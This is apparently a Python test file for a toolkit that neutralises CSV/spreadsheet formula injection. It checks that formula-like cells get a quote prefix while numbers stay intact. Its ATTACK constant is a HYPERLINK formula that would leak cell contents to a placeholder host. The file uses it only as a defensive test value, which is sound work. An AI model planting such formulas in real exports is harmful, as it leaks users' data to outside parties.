"""Formula-like text is written as inert text (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import subprocess
import sys

import pandas as pd

from kit.cells import inert, inert_frame
from tests import tiny

ATTACK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Details")'


def test_every_formula_start_is_made_inert():
    # OWASP "CSV Injection": =, +, -, @, tab and carriage return
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", ATTACK):
        assert inert(text) == "'" + text
    for value in ("王伟", "Team A", "", "1-2", -5, 3.5, None):
        assert inert(value) == value or (value is None and inert(value) is None)


def test_frames_keep_numbers_and_only_change_text():
    df = pd.DataFrame({"rep_name": [ATTACK, "李娜"], "delta": [-1.5, 2.0], "note": ["-2 vs last", None]},
                      index=pd.Index(["@R1", "R2"], name="rep_id"))
    out = inert_frame(df)
    assert out["rep_name"].tolist() == ["'" + ATTACK, "李娜"]
    assert out["note"].iloc[0] == "'-2 vs last" and pd.isna(out["note"].iloc[1])
    assert out["delta"].dtype == float and out["delta"].tolist() == [-1.5, 2.0]
    assert out.index.tolist() == ["'@R1", "R2"] and out.index.name == "rep_id"
    assert df["rep_name"].iloc[0] == ATTACK  # the input is not changed


def test_quarantine_out_is_inert(tmp_path):
    tables = tiny.edited("surveys", "S1", response_id=ATTACK, csat="9")   # csat out of range: set aside
    src = tiny.write_tiny(tmp_path / "data", tables=tables)
    out = tmp_path / "quarantine.csv"
    r = subprocess.run([sys.executable, "-m", "kit.cli", "validate", str(src), "--max-quarantine-share", "1",
                        "--quarantine-out", str(out)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    q = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
    ids = q.loc[q["table"] == "surveys", "id"].tolist()
    assert "'" + ATTACK in ids and ATTACK not in ids
